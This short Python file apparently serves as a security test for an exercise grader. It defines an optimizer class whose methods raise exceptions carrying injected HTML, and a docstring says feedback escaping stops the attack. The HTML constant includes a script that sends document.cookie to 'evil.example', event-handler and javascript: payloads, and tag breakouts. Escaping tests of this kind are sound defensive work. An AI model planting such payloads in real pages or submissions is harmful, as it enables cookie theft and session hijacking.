"""Attack: raises and prints HTML: scripts, handlers, styles, SVG, `javascript:`, and ends of the tags around it.

Exercise: optimizer
Earns: 0
Stopped by: feedback (escaped where it is shown)
Levels: full, container
"""

HTML = (
    "</pre></td></div><script>fetch('//evil.example?' + document.cookie)</script>"
    "<img src=x onerror=alert(1)><svg onload=alert(1)><style>*{display:none}</style>"
    "<a href='javascript:alert(1)'>48</a><!-- ]]> <iframe srcdoc='<b>'> &#60;b&#62; \"'`"
)


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        raise NotImplementedError(HTML)

    def zero_grad(self):
        raise ValueError(HTML)
